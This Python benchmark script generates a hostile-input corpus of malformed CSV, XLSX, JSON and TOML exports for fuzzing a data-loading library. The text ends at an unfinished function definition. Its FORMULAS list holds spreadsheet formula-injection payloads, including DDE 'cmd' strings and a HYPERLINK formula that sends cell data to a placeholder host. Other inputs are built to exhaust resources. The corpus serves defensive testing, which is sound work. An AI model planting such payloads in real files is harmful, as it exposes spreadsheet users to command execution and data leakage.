"""A hostile-input corpus: thousands of malformed exports, loaded through the API and the
command line, and what went wrong counted.

The corpus is made from the synthetic exports in ``examples/`` (the four councils' audit
exports with their mappings, native JSON Lines, case lists and activity logs), each turned
into CSV, XLSX, JSON and JSON Lines and then spoilt one way each (a stray quote, a NUL, a
cell of 200,000 characters, JSON nested 5,000 deep, a 5,000-digit integer, a workbook cut
off part-way or whose ``<dimension>`` understates it, a named pipe, ``/dev/zero``, a formula
as a team name, a misspelt mapping, a damaged profile ...). File ``i`` is the same for the
same ``i`` and seed: a failure is found again by its number.

Each file is checked in a process of its own (forked, memory capped at 2 GiB, killed after
``--timeout`` seconds) through the API (the loader its kind needs) and through the command
line (``audits validate``, ``sample``, ``due``, ``profile check``; for a share of the audit
exports, and every one carrying a formula, ``report`` writing every output, published and
child-level). It prints:

- **crashes**: anything but the library's own error (through the API), and any exit status
  but 0, 1 and 2, a traceback or a "this is a bug" line (through the command line);
- **hangs**: files whose check did not finish in time;
- **rows lost**: rows written that the load neither accepted nor rejected (a file the load
  refused as a whole loses none: the user is told);
- **rejections without a column**: cell-level rejections naming no column (a JSON line that
  is not JSON, or not an object, is the row's fault and is counted apart);
- **live formulas in outputs**: CSV cells beginning ``=``, ``+``, ``-``, ``@``, tab or
  carriage return, and XLSX formula cells, in any file a command wrote;
- **child ids in published outputs** (written any way: case, separators, invisible
  characters) and **recoverable suppressed cells** (a linear-program disclosure audit of the
  published report, solved with HiGHS): the checks :mod:`corpus_checks` (beside this
  script) provides, from :mod:`qaframework.testing.disclosure`.

    python benchmarks/hostile_corpus.py [--count 10000] [--jobs 2] [--timeout 30]
    python benchmarks/hostile_corpus.py --write DIR --count 100   # just write the files
    python benchmarks/hostile_corpus.py --results RUN.jsonl ...   # each file's outcome too
    python benchmarks/hostile_corpus.py --compare OLD.jsonl NEW.jsonl

``--results`` writes a line per file, in number order: its number, name, mutation, the
SHA-256 of its bytes (and of its mapping's), and what the check found (rows read, accepted,
rejected, problems, and digests of the accepted records and of every rejection with its
row, column, value and reason; refused with a digest of the message, crash or hang),
never a child id. ``--compare`` reads two such
runs and lists the files whose outcome differs, apart from those whose bytes differ: when
two runs' figures disagree, it says whether the library or the corpus moved (the corpus is
made from ``examples/``, so regenerating the examples changes some of its files).

The test ``tests/test_hostile_corpus.py`` runs a slice of 1,000 files in the suite.
"""

from __future__ import annotations

import argparse
import contextlib
import csv
import hashlib
import io
import json
import os
import random
import re
import resource
import select
import shutil
import signal
import sys
import tempfile
import time
import traceback
import zipfile
from collections import Counter
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

HERE = Path(__file__).resolve().parent
ROOT = HERE.parent
EXAMPLES = ROOT / "examples"
COUNCILS = ("bolton", "manchester", "swindon", "telford")
PERIOD, AS_OF = "2026-27 Q1", "2026-07-01"
FORMULAS = (
    '=HYPERLINK("http://x/?"&B2,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
)
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
ROW_LEVEL = re.compile(
    r"^(is not valid JSON|is not valid UTF-8|is \S+( \S+)?, not an object|is (a|an) .*not an object"
    r"|is nested too deeply)"
)
MEMORY = 2 << 30


# -- the seeds: small slices of the synthetic exports ---------------------------------------


@dataclass(frozen=True)
class Seed:
    """One export to spoil: its kind (audits, cases, log), council, header and rows (for a
    tabular export) or native objects, and its mapping's text."""

    kind: str
    council: str
    header: list[str]
    rows: list[list[str]]
    objects: list[dict[str, Any]]
    mapping: str | None


def _csv_rows(path: Path) -> tuple[list[str], list[list[str]]]:
    rows = list(csv.reader(io.StringIO(path.read_text("utf-8"))))
    return rows[0], rows[1:]


def seeds() -> list[Seed]:
    """The exports the corpus is made from: per council its audits (mapped CSV and native),
    its case list and its activity log."""
    found: list[Seed] = []
    for council in COUNCILS:
        folder = EXAMPLES / council
        header, rows = _csv_rows(folder / "audits.csv")
        mapping = (folder / "audits.mapping.toml").read_text("utf-8")
        native = [json.loads(line) for line in (folder / "audits.jsonl").read_text().splitlines()]
        found.append(Seed("audits", council, header, rows, native, mapping))
        header, rows = _csv_rows(folder / "cases.csv")
        found.append(Seed("cases", council, header, rows, [], None))
        header, rows = _csv_rows(folder / "activity-log.csv")
        found.append(Seed("log", council, header, rows, [], None))
    return found


# -- a corpus file -------------------------------------------------------------------------


@dataclass
class Entry:
    """One file of the corpus: where it is, what it holds and how to load it.

    ``rows`` is the number of rows written (None where a mutation makes it ambiguous, such
    as a file cut off mid-row); ``formulas`` whether it carries formulas into outputs."""

    number: int
    mutation: str
    kind: str
    council: str
    format: str
    path: str
    mapping: str | None = None
    rows: int | None = None
    formulas: bool = False
    outputs: bool = False


@dataclass
class Built:
    """A spoilt export, before it is written: its bytes (or a special file to make)."""

    suffix: str
    data: bytes = b""
    special: str | None = None
    mapping: str | None = None
    rows: int | None = None
    formulas: bool = False


def _csv_text(header: Sequence[str], rows: Sequence[Sequence[str]], end: str = "\n") -> str:
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator=end)
    writer.writerow(header)
    writer.writerows(rows)
    return buffer.getvalue()


def _record(cells: Sequence[str]) -> str:
    """One CSV record, without its line end."""
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerow(cells)
    return buffer.getvalue().removesuffix("\n")


def _xlsx(sheets: dict[str, list[list[Any]]]) -> bytes:
    from openpyxl import Workbook

    book = Workbook()
    first = book.active
    assert first is not None
    book.remove(first)
    for title, rows in sheets.items():
        sheet = book.create_sheet(title[:31])
        for row in rows:
            sheet.append(row)
            # A cell holding text stays text (openpyxl makes "=..." a formula otherwise).
            for cell in sheet[sheet.max_row]:
                if isinstance(cell.value, str):
                    cell.data_type = "s"
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def _rezip(data: bytes, change: Callable[[str, bytes], bytes | None]) -> bytes:
    """A zip with each member changed (None drops it)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w") as target:
        for info in source.infolist():
            changed = change(info.filename, source.read(info.filename))
            if changed is not None:
                target.writestr(info, changed)
    return out.getvalue()


def _sheet(change: Callable[[bytes], bytes]) -> Callable[[str, bytes], bytes]:
    def apply(name: str, part: bytes) -> bytes:
        return change(part) if name.startswith("xl/worksheets/sheet") else part

    return apply


class Spoiler:
    """Makes file ``number`` of the corpus from its seed, its mutation and a random number
    generator seeded by the number."""

    def __init__(self, seed: Seed, rnd: random.Random) -> None:
        self.seed = seed
        self.rnd = rnd
        count = rnd.randint(6, 14)
        start = rnd.randrange(max(1, len(seed.rows) - count))
        self.header = list(seed.header)
        self.rows = [list(r) for r in seed.rows[start : start + count]]
        self.objects = [dict(o) for o in seed.objects[start : start + count]]

    # what a mutation changes
    def cell(self) -> tuple[int, int]:
        row = self.rnd.randrange(len(self.rows))
        return row, self.rnd.randrange(len(self.header))

    def column(self, *names: str) -> int:
        for name in names:
            if name in self.header:
                return self.header.index(name)
        return self.rnd.randrange(len(self.header))

    def team_column(self) -> int:
        return self.column("Allocated Team", "Team", "Role")

    def text(self, end: str = "\n") -> str:
        return _csv_text(self.header, self.rows, end)

    def records(self) -> list[str]:
        """The header and each row as CSV, a record each without its line end (a record
        with a line break in a quoted cell spans several lines), then "" for the text after
        the last line end: ``"\\n".join`` of them is :meth:`text`."""
        return [_record(cells) for cells in (self.header, *self.rows)] + [""]

    def csv(self, text: str | None = None, *, rows: int | None = -1, **extra: Any) -> Built:
        body = self.text() if text is None else text
        return Built(
            ".csv", body.encode("utf-8"), rows=len(self.rows) if rows == -1 else rows, **extra
        )

    def xlsx(self, data: bytes | None = None, *, rows: int | None = -1, **extra: Any) -> Built:
        raw = data if data is not None else _xlsx({"Export": [self.header, *self.rows]})
        return Built(".xlsx", raw, rows=len(self.rows) if rows == -1 else rows, **extra)

    def lines(self, objects: Sequence[Any] | None = None) -> list[bytes]:
        return [json.dumps(o, ensure_ascii=False).encode() for o in (objects or self.objects)]

    def jsonl(
        self, lines: list[bytes] | None = None, *, rows: int | None = -1, **extra: Any
    ) -> Built:
        body = b"\n".join(lines if lines is not None else self.lines()) + b"\n"
        count = len(lines if lines is not None else self.objects)
        return Built(".jsonl", body, rows=count if rows == -1 else rows, **extra)

    def json(
        self, lines: list[bytes] | None = None, *, rows: int | None = -1, **extra: Any
    ) -> Built:
        items = lines if lines is not None else self.lines()
        body = b"[\n" + b",\n".join(items) + b"\n]\n"
        return Built(".json", body, rows=len(items) if rows == -1 else rows, **extra)

    def row_objects(self) -> list[dict[str, str]]:
        return [dict(zip(self.header, row, strict=False)) for row in self.rows]


def _spoil_text(text: str, rnd: random.Random, how: str) -> str:
    """A cell's text spoilt ``how``."""
    at = rnd.randrange(len(text) + 1) if text else 0
    inserted = {
        "nul": "\x00",
        "control": "\x07",
        "cr": "\r",
        "zero_width": "\u200b",
        "bidi": "\u202e",
        "surrogate_escape": "\\ud800",
    }[how]
    return text[:at] + inserted + text[at:]


# Each mutation takes the spoiler and gives the file to write.
Mutation = Callable[[Spoiler], Built]


def _m_clean_csv(s: Spoiler) -> Built:
    return s.csv()


def _m_stray_quote(s: Spoiler) -> Built:
    row, col = s.cell()
    records = s.records()
    cells = list(s.rows[row])
    cells[col] = '"' + cells[col]
    records[row + 1] = ",".join(c if i == col else _quoted(c) for i, c in enumerate(cells))
    return s.csv("\n".join(records))


def _quoted(cell: str) -> str:
    return f'"{cell.replace(chr(34), chr(34) * 2)}"' if any(c in cell for c in ',"\r\n') else cell


def _m_quote_inside(s: Spoiler) -> Built:
    row, col = s.cell()
    value = s.rows[row][col].replace(",", " ").replace("\n", " ")
    value = (value if len(value) >= 2 else "xx") + ""
    raw = value[:2] + '"' + value[2:]  # a quote mid-cell, written raw as a careless export does
    s.rows[row][col] = raw
    records = s.records()
    records[row + 1] = ",".join(raw if i == col else _quoted(c) for i, c in enumerate(s.rows[row]))
    return s.csv("\n".join(records))


def _m_extra_cells(s: Spoiler) -> Built:
    row = s.rnd.randrange(len(s.rows))
    s.rows[row] += ["", "surplus", "more"]
    return s.csv()


def _m_short_row(s: Spoiler) -> Built:
    row = s.rnd.randrange(len(s.rows))
    s.rows[row] = s.rows[row][: s.rnd.randrange(1, len(s.header))]
    return s.csv()


def _character(how: str) -> Mutation:
    def mutate(s: Spoiler) -> Built:
        row, col = s.cell()
        s.rows[row][col] = _spoil_text(s.rows[row][col], s.rnd, how)
        return s.csv(rows=None if how == "cr" else -1)

    mutate.__name__ = f"_m_{how}"
    return mutate


def _m_invalid_utf8(s: Spoiler) -> Built:
    row, col = s.cell()
    marker = "\u0001MARK\u0001"
    s.rows[row][col] += marker
    data = s.text().encode("utf-8").replace(marker.encode(), b"\xff\xfe\xc3")
    return Built(".csv", data, rows=len(s.rows))


def _m_cp1252(s: Spoiler) -> Built:
    row, col = s.cell()
    s.rows[row][col] += " Renée"
    return Built(".csv", s.text().encode("cp1252", "replace"), rows=len(s.rows))


def _m_utf16(s: Spoiler) -> Built:
    return Built(".csv", s.text("\r\n").encode("utf-16"), rows=len(s.rows))


def _m_bom(s: Spoiler) -> Built:
    return Built(".csv", b"\xef\xbb\xbf" + s.text().encode(), rows=len(s.rows))


def _m_huge_field(s: Spoiler) -> Built:
    row, col = s.cell()
    s.rows[row][col] = "x" * 200_000
    return s.csv()


def _m_huge_quoted_run(s: Spoiler) -> Built:
    row, col = s.cell()
    s.rows[row][col] = "line\n" * 30_000
    return s.csv()


def _m_crlf_mix(s: Spoiler) -> Built:
    # Each record ends its own way; a line break inside a quoted cell is the cell's.
    records = s.records()
    return s.csv("".join(r + s.rnd.choice(["\n", "\r\n", "\r"]) for r in records[:-1]))


def _m_blank_lines(s: Spoiler) -> Built:
    # Blank lines between records, never inside a quoted cell.
    records = s.records()
    for _ in range(3):
        records.insert(s.rnd.randrange(1, len(records)), s.rnd.choice(["", ",,,", "   "]))
    return s.csv("\n".join(records))


def _m_duplicate_row(s: Spoiler) -> Built:
    s.rows.append(list(s.rows[s.rnd.randrange(len(s.rows))]))
    return s.csv()


def _m_duplicate_header(s: Spoiler) -> Built:
    s.header[s.rnd.randrange(1, len(s.header))] = s.header[0]
    return s.csv()


def _m_empty_header_cell(s: Spoiler) -> Built:
    s.header[s.rnd.randrange(len(s.header))] = ""
    return s.csv()


def _m_no_header(s: Spoiler) -> Built:
    return s.csv(_csv_text(s.rows[0], s.rows[1:]), rows=None)


def _m_formula_team(s: Spoiler) -> Built:
    col = s.team_column()
    for index, row in enumerate(s.rows):
        row[col] = FORMULAS[index % len(FORMULAS)]
    return s.csv(formulas=True)


def _m_formula_xlsx(s: Spoiler) -> Built:
    col = s.team_column()
    for index, row in enumerate(s.rows):
        row[col] = FORMULAS[index % len(FORMULAS)]
    return s.xlsx(formulas=True)


def _m_long_values(s: Spoiler) -> Built:
    row, col = s.cell()
    s.rows[row][col] = " and ".join(["Children in Care and Care Leavers"] * 9)
    row = s.rnd.randrange(len(s.rows))
    s.rows[row][0] = "A" * 250
    return s.csv()


def _m_garbage_values(s: Spoiler) -> Built:
    for _ in range(4):
        row, col = s.cell()
        s.rows[row][col] = s.rnd.choice(
            ["31/02/2026", "2026-13-45", "12.5", "yes please", "N/A", "#REF!", "-", "1e308", "∞"]
        )
    return s.csv()


def _m_truncated(s: Spoiler) -> Built:
    data = s.text().encode()
    return Built(".csv", data[: s.rnd.randrange(len(data) // 3, len(data))], rows=None)


def _m_byte_flips(s: Spoiler) -> Built:
    data = bytearray(s.text().encode())
    for _ in range(8):
        data[s.rnd.randrange(len(data))] = s.rnd.randrange(256)
    return Built(".csv", bytes(data), rows=None)


def _m_wide_row(s: Spoiler) -> Built:
    row = s.rnd.randrange(len(s.rows))
    s.rows[row] += ["x"] * 10_000
    return s.csv()


def _m_semicolons(s: Spoiler) -> Built:
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=";", lineterminator="\n").writerows([s.header, *s.rows])
    return s.csv(buffer.getvalue(), rows=None)


def _m_empty(s: Spoiler) -> Built:
    return Built(".csv", b"", rows=None)


def _m_header_only(s: Spoiler) -> Built:
    return s.csv(_csv_text(s.header, []), rows=0)


def _m_misspelt_mapping(s: Spoiler) -> Built:
    built = s.csv()
    if s.seed.mapping is not None:
        built.mapping = s.seed.mapping.replace('"\n', 's"\n', 1)
    return built


def _m_deep_mapping(s: Spoiler) -> Built:
    built = s.csv(rows=None)
    built.mapping = s.rnd.choice(
        [
            "[columns]\nid = " + "[" * 2000 + "]" * 2000 + "\n",
            '{"columns": ' + "[" * 100_000 + "]" * 100_000 + "}",
            "[columns\nid = ",
            "\xff\xfe",
        ]
    )
    return built


def _m_fifo(s: Spoiler) -> Built:
    return Built(s.rnd.choice([".csv", ".xlsx", ".json", ".jsonl"]), special="fifo")


def _m_dev_zero(s: Spoiler) -> Built:
    return Built(s.rnd.choice([".csv", ".xlsx", ".json", ".jsonl"]), special="zero")


def _m_directory(s: Spoiler) -> Built:
    return Built(".csv", special="directory")


def _m_fifo_mapping(s: Spoiler) -> Built:
    built = s.csv(rows=None)
    built.special = "fifo-mapping"
    return built


# XLSX


def _m_clean_xlsx(s: Spoiler) -> Built:
    return s.xlsx()


def _m_dimension(s: Spoiler) -> Built:
    data = _rezip(
        _xlsx({"Export": [s.header, *s.rows]}),
        _sheet(lambda x: re.sub(rb'<dimension ref="[^"]*" ?/>', b'<dimension ref="A1:C3"/>', x)),
    )
    return s.xlsx(data)


def _m_xlsx_cut(s: Spoiler) -> Built:
    def cut(xml: bytes) -> bytes:
        at = xml.find(b'<row r="4"')
        return xml[: at + 30] if at > 0 else xml[: len(xml) // 2]

    return s.xlsx(_rezip(_xlsx({"Export": [s.header, *s.rows]}), _sheet(cut)), rows=None)


def _m_xlsx_shared_string(s: Spoiler) -> Built:
    def change(xml: bytes) -> bytes:
        return re.sub(
            rb'<c r="A3" t="inlineStr"><is><t>[^<]*</t></is></c>',
            b'<c r="A3" t="s"><v>999</v></c>',
            xml,
        )

    return s.xlsx(_rezip(_xlsx({"Export": [s.header, *s.rows]}), _sheet(change)), rows=None)


def _m_xlsx_not_zip(s: Spoiler) -> Built:
    return s.xlsx(s.text().encode(), rows=None)


def _m_xlsx_missing_part(s: Spoiler) -> Built:
    data = _rezip(
        _xlsx({"Export": [s.header, *s.rows]}),
        lambda name, part: None if name in ("xl/workbook.xml", "xl/styles.xml") else part,
    )
    return s.xlsx(data, rows=None)


def _m_xlsx_bad_xml(s: Spoiler) -> Built:
    data = _rezip(
        _xlsx({"Export": [s.header, *s.rows]}),
        _sheet(lambda xml: xml.replace(b"<sheetData>", b"<sheetData><row r='x'><c>&bogus;</c>", 1)),
    )
    return s.xlsx(data, rows=None)


def _m_xlsx_typed(s: Spoiler) -> Built:
    from datetime import datetime

    rows: list[list[Any]] = [list(r) for r in s.rows]
    for _ in range(4):
        row, col = s.cell()
        rows[row][col] = s.rnd.choice([3.75, True, datetime(2026, 5, 1, 13, 30), 46000, -1])
    return s.xlsx(_xlsx({"Export": [s.header, *rows]}))


def _m_xlsx_sheets(s: Spoiler) -> Built:
    half = len(s.rows) // 2
    data = _xlsx(
        {
            "List A": [s.header, *s.rows[:half]],
            "Notes": [["made up"]],
            "List B": [s.header, *s.rows[half:]],
        }
    )
    return s.xlsx(data, rows=half)


def _m_xlsx_empty_sheet(s: Spoiler) -> Built:
    return s.xlsx(_xlsx({"Empty": []}), rows=None)


def _m_xlsx_formula_cells(s: Spoiler) -> Built:
    data = _rezip(
        _xlsx({"Export": [s.header, *s.rows]}),
        _sheet(
            lambda xml: re.sub(
                rb'<c r="B(\d+)" t="inlineStr"><is><t>([^<]*)</t></is></c>',
                rb'<c r="B\1" t="str"><f>CONCAT("x","y")</f><v>\2</v></c>',
                xml,
            )
        ),
    )
    return s.xlsx(data)


def _m_xlsx_nul_text(s: Spoiler) -> Built:
    row, col = s.cell()
    # A text cell spoilt: a cell a test has made typed (a date, a number) becomes text too.
    s.rows[row][col] = f"{s.rows[row][col]}_x0000_\u200b"
    return s.xlsx()


# JSON and JSON Lines


def _native_field(s: Spoiler) -> tuple[int, str]:
    index = s.rnd.randrange(len(s.objects))
    keys = [k for k, v in s.objects[index].items() if isinstance(v, str)] or ["id"]
    return index, s.rnd.choice(keys)


def _json_mutation(
    change: Callable[[Spoiler], list[bytes]], rows_known: bool = True
) -> Callable[[Spoiler, str], Built]:
    def build(s: Spoiler, suffix: str) -> Built:
        lines = change(s)
        rows = len(lines) if rows_known else None
        return s.json(lines, rows=rows) if suffix == ".json" else s.jsonl(lines, rows=rows)

    return build


def _j_clean(s: Spoiler) -> list[bytes]:
    return s.lines()


def _j_deep(s: Spoiler) -> list[bytes]:
    lines = s.lines()
    index, key = _native_field(s)
    lines[index] = (
        json.dumps({**s.objects[index], key: "@@"})
        .encode()
        .replace(b'"@@"', b"[" * 5000 + b"]" * 5000)
    )
    return lines


def _j_bigint(s: Spoiler) -> list[bytes]:
    lines = s.lines()
    index, key = _native_field(s)
    lines[index] = (
        json.dumps({**s.objects[index], key: "@@"}).encode().replace(b'"@@"', b"9" * 5000)
    )
    return lines


def _j_invalid_utf8(s: Spoiler) -> list[bytes]:
    lines = s.lines()
    index, key = _native_field(s)
    lines[index] = json.dumps({**s.objects[index], key: "@@"}).encode().replace(b"@@", b"\xff\xfe")
    if s.rnd.random() < 0.5:
        lines[index] = lines[index].replace(b'"id": "', b'"id": 5, "zz": "', 1)
    return lines


def _j_escape(escape: str) -> Callable[[Spoiler], list[bytes]]:
    def change(s: Spoiler) -> list[bytes]:
        lines = s.lines()
        index, key = _native_field(s)
        lines[index] = (
            json.dumps({**s.objects[index], key: "x@@"}).encode().replace(b"@@", escape.encode())
        )
        return lines

    return change


def _j_wrong_type(s: Spoiler) -> list[bytes]:
    lines = s.lines()
    index, key = _native_field(s)
    lines[index] = json.dumps(
        {**s.objects[index], key: s.rnd.choice([5, True, None, [1], {"a": 1}])}
    ).encode()
    return lines


def _j_unknown_key(s: Spoiler) -> list[bytes]:
    lines = s.lines()
    index = s.rnd.randrange(len(lines))
    lines[index] = json.dumps({**s.objects[index], "Team Name": "x"}).encode()
    return lines


def _j_missing_key(s: Spoiler) -> list[bytes]:
    lines = s.lines()
    index, key = _native_field(s)
    lines[index] = json.dumps({k: v for k, v in s.objects[index].items() if k != key}).encode()
    return lines


def _j_not_objects(s: Spoiler) -> list[bytes]:
    lines = s.lines()
    lines[s.rnd.randrange(len(lines))] = s.rnd.choice(
        [b"5", b'"text"', b"null", b"[1, 2]", b"true"]
    )
    return lines


def _j_broken_line(s: Spoiler) -> list[bytes]:
    lines = s.lines()
    index = s.rnd.randrange(len(lines))
    lines[index] = lines[index][: s.rnd.randrange(1, len(lines[index]))]
    return lines


def _j_duplicate(s: Spoiler) -> list[bytes]:
    lines = s.lines()
    return [*lines, lines[s.rnd.randrange(len(lines))]]


def _j_huge_string(s: Spoiler) -> list[bytes]:
    lines = s.lines()
    index, key = _native_field(s)
    lines[index] = json.dumps({**s.objects[index], key: "y" * 300_000}).encode()
    return lines


def _j_formula(s: Spoiler) -> list[bytes]:
    objects = [dict(o) for o in s.objects]
    for index, o in enumerate(objects):
        key = "team" if "team" in o or s.seed.kind == "audits" else "child_id"
        o[key] = FORMULAS[index % len(FORMULAS)]
        for action in o.get("actions", []):
            action["what"] = FORMULAS[0]
    return s.lines(objects)


def _j_whole_file(kind: str) -> Callable[[Spoiler, str], Built]:
    def build(s: Spoiler, suffix: str) -> Built:
        body = {
            "truncated": (b"[\n" + b",\n".join(s.lines()))[:-40],
            "not_array": b'{"audits": []}',
            "trailing": b"[" + b",".join(s.lines()) + b"] extra",
            "deep_whole": b"[" * 100_000 + b"]" * 100_000,
            "bom": b"\xef\xbb\xbf" + b"[" + b",".join(s.lines()) + b"]",
        }[kind]
        if suffix == ".jsonl" and kind == "bom":
            body = b"\xef\xbb\xbf" + b"\n".join(s.lines()) + b"\n"
        rows = len(s.objects) if kind == "bom" else None
        return Built(suffix, body, rows=rows)

    return build


JSON_CHANGES: dict[str, Callable[[Spoiler, str], Built]] = {
    "json_clean": _json_mutation(_j_clean),
    "json_deep": _json_mutation(_j_deep),
    "json_bigint": _json_mutation(_j_bigint),
    "json_invalid_utf8": _json_mutation(_j_invalid_utf8),
    "json_nul_escape": _json_mutation(_j_escape("\\u0000")),
    "json_control_escape": _json_mutation(_j_escape("\\u0007\\b\\f")),
    "json_surrogate_escape": _json_mutation(_j_escape("\\ud800")),
    "json_wrong_type": _json_mutation(_j_wrong_type),
    "json_unknown_key": _json_mutation(_j_unknown_key),
    "json_missing_key": _json_mutation(_j_missing_key),
    "json_not_objects": _json_mutation(_j_not_objects),
    "json_broken_line": _json_mutation(_j_broken_line, rows_known=False),
    "json_duplicate": _json_mutation(_j_duplicate),
    "json_huge_string": _json_mutation(_j_huge_string),
    "json_formula": _json_mutation(_j_formula),
    "json_truncated": _j_whole_file("truncated"),
    "json_not_array": _j_whole_file("not_array"),
    "json_trailing": _j_whole_file("trailing"),
    "json_deep_whole": _j_whole_file("deep_whole"),
    "json_bom": _j_whole_file("bom"),
}

TABULAR: dict[str, Mutation] = {
    "csv_clean": _m_clean_csv,
    "csv_stray_quote": _m_stray_quote,
    "csv_quote_inside": _m_quote_inside,
    "csv_extra_cells": _m_extra_cells,
    "csv_short_row": _m_short_row,
    "csv_nul": _character("nul"),
    "csv_control": _character("control"),
    "csv_lone_cr": _character("cr"),
    "csv_zero_width": _character("zero_width"),
    "csv_bidi": _character("bidi"),
    "csv_invalid_utf8": _m_invalid_utf8,
    "csv_cp1252": _m_cp1252,
    "csv_utf16": _m_utf16,
    "csv_bom": _m_bom,
    "csv_huge_field": _m_huge_field,
    "csv_huge_multiline_cell": _m_huge_quoted_run,
    "csv_mixed_line_ends": _m_crlf_mix,
    "csv_blank_lines": _m_blank_lines,
    "csv_duplicate_row": _m_duplicate_row,
    "csv_duplicate_header": _m_duplicate_header,
    "csv_empty_header_cell": _m_empty_header_cell,
    "csv_no_header": _m_no_header,
    "csv_formula": _m_formula_team,
    "csv_long_values": _m_long_values,
    "csv_garbage_values": _m_garbage_values,
    "csv_truncated": _m_truncated,
    "csv_byte_flips": _m_byte_flips,
    "csv_wide_row": _m_wide_row,
    "csv_semicolons": _m_semicolons,
    "csv_empty": _m_empty,
    "csv_header_only": _m_header_only,
    "mapping_misspelt": _m_misspelt_mapping,
    "mapping_broken": _m_deep_mapping,
    "mapping_fifo": _m_fifo_mapping,
    "special_fifo": _m_fifo,
    "special_dev_zero": _m_dev_zero,
    "special_directory": _m_directory,
    "xlsx_clean": _m_clean_xlsx,
    "xlsx_dimension": _m_dimension,
    "xlsx_cut": _m_xlsx_cut,
    "xlsx_shared_string": _m_xlsx_shared_string,
    "xlsx_not_zip": _m_xlsx_not_zip,
    "xlsx_missing_part": _m_xlsx_missing_part,
    "xlsx_bad_xml": _m_xlsx_bad_xml,
    "xlsx_typed": _m_xlsx_typed,
    "xlsx_sheets": _m_xlsx_sheets,
    "xlsx_empty_sheet": _m_xlsx_empty_sheet,
    "xlsx_formula_cells": _m_xlsx_formula_cells,
    "xlsx_formula_text": _m_formula_xlsx,
    "xlsx_escaped_nul": _m_xlsx_nul_text,
}

PROFILE_CHANGES = (
    "profile_truncated",
    "profile_deep",
    "profile_invalid_utf8",
    "profile_wrong_type",
    "profile_byte_flips",
    "profile_fifo",
)


def mutations() -> list[str]:
    """Every mutation's name, in the order files are made."""
    return [*TABULAR, *JSON_CHANGES, *PROFILE_CHANGES]


def _profile_file(rnd: random.Random, how: str) -> Built:
    files = sorted(ROOT.glob("profiles/*/src/*/data/*.toml"))
    text = files[rnd.randrange(len(files))].read_text("utf-8")
    if how == "profile_truncated":
        text = text[: rnd.randrange(len(text))]
    elif how == "profile_deep":
        text = text.replace("\n", "\ndeep = " + "[" * 1000 + "]" * 1000 + "\n", 1)
    elif how == "profile_invalid_utf8":
        return Built(".toml", text.encode()[:200] + b"\xff\xfe" + text.encode()[200:])
    elif how == "profile_wrong_type":
        text = re.sub(r'= "[^"]*"', "= 12", text, count=rnd.randint(1, 6))
    elif how == "profile_byte_flips":
        data = bytearray(text.encode())
        for _ in range(10):
            data[rnd.randrange(len(data))] = rnd.randrange(256)
        return Built(".toml", bytes(data))
    elif how == "profile_fifo":
        return Built(".toml", special="fifo")
    return Built(".toml", text.encode())


def entry(number: int, folder: Path, seed: int = 0, sources: list[Seed] | None = None) -> Entry:
    """Write file ``number`` of the corpus into ``folder`` and say what it is."""
    names = mutations()
    mutation = names[number % len(names)]
    rnd = random.Random(f"{seed}-{number}")
    found = sources if sources is not None else seeds()
    base = found[(number // len(names)) % len(found)]
    mapping_text: str | None = None
    if mutation in PROFILE_CHANGES:
        built = _profile_file(rnd, mutation)
        kind, fmt = "profile", "toml"
    elif mutation in JSON_CHANGES:
        # JSON changes apply to the native audits, or to case lists and logs as objects.
        spoiler = Spoiler(base, rnd)
        if base.kind != "audits":
            spoiler.objects = _native_objects(base.kind, spoiler)
        suffix = rnd.choice([".json", ".jsonl"])
        built = JSON_CHANGES[mutation](spoiler, suffix)
        kind, fmt = base.kind, suffix[1:]
    else:
        spoiler = Spoiler(base, rnd)
        built = TABULAR[mutation](spoiler)
        kind, fmt = base.kind, built.suffix[1:]
        if base.kind == "audits":
            mapping_text = built.mapping if built.mapping is not None else base.mapping
    path = folder / f"{number:06d}-{mutation}-{base.council}-{kind}{built.suffix}"
    _make(path, built)
    mapping_path = None
    if mapping_text is not None or built.special == "fifo-mapping":
        mapping_path = (
            folder
            / f"{number:06d}.mapping.{'json' if (mapping_text or '').startswith('{') else 'toml'}"
        )
        if built.special == "fifo-mapping":
            os.mkfifo(mapping_path)
        else:
            assert mapping_text is not None
            mapping_path.write_bytes(mapping_text.encode("utf-8", "surrogateescape"))
    return Entry(
        number,
        mutation,
        kind,
        base.council,
        fmt,
        str(path),
        str(mapping_path) if mapping_path is not None else None,
        built.rows,
        built.formulas,
        outputs=built.formulas or number % 17 == 0,
    )


def _native_objects(kind: str, s: Spoiler) -> list[dict[str, Any]]:
    """A case list's or log's rows in the converter's native form."""
    from qaframework.profiles.converter import to_dict

    if kind == "cases":
        from qaframework.policy.sampling import Case

        objects = []
        for values in s.row_objects():
            fields = {
                k: v
                for k, v in values.items()
                if k
                not in ("Child Unique ID", "Allocated Team", "Allocated Worker", "Service Area")
                and v
            }
            case = Case(
                values["Child Unique ID"],
                team=values.get("Allocated Team") or None,
                worker=values.get("Allocated Worker") or None,
                service_area=values.get("Service Area") or None,
                fields=fields,
            )
            objects.append(to_dict(case))
        return objects
    return [
        {
            "activity": v["Activity"],
            "subject": v["Subject ID"],
            "on": v["Date"],
            **({"role": v["Role"]} if v.get("Role") else {}),
            **({"event": v["Event"]} if v.get("Event") else {}),
        }
        for v in s.row_objects()
    ]


def _make(path: Path, built: Built) -> None:
    if built.special in ("fifo",):
        os.mkfifo(path)
    elif built.special == "zero":
        path.symlink_to("/dev/zero")
    elif built.special == "directory":
        path.mkdir()
    else:
        path.write_bytes(built.data)


def _remove(item: Entry) -> None:
    for name in (item.path, item.mapping):
        if name is None:
            continue
        path = Path(name)
        if path.is_dir() and not path.is_symlink():
            shutil.rmtree(path, ignore_errors=True)
        else:
            with contextlib.suppress(FileNotFoundError):
                path.unlink()


# -- checking one file (in a child process) ------------------------------------------------


def _where(exc: BaseException) -> str:
    frames = traceback.extract_tb(exc.__traceback__)
    last = frames[-1] if frames else None
    place = f" at {Path(last.filename).name}:{last.lineno}" if last is not None else ""
    return f"{type(exc).__name__}{place}"


def _api(item: Entry) -> dict[str, Any]:
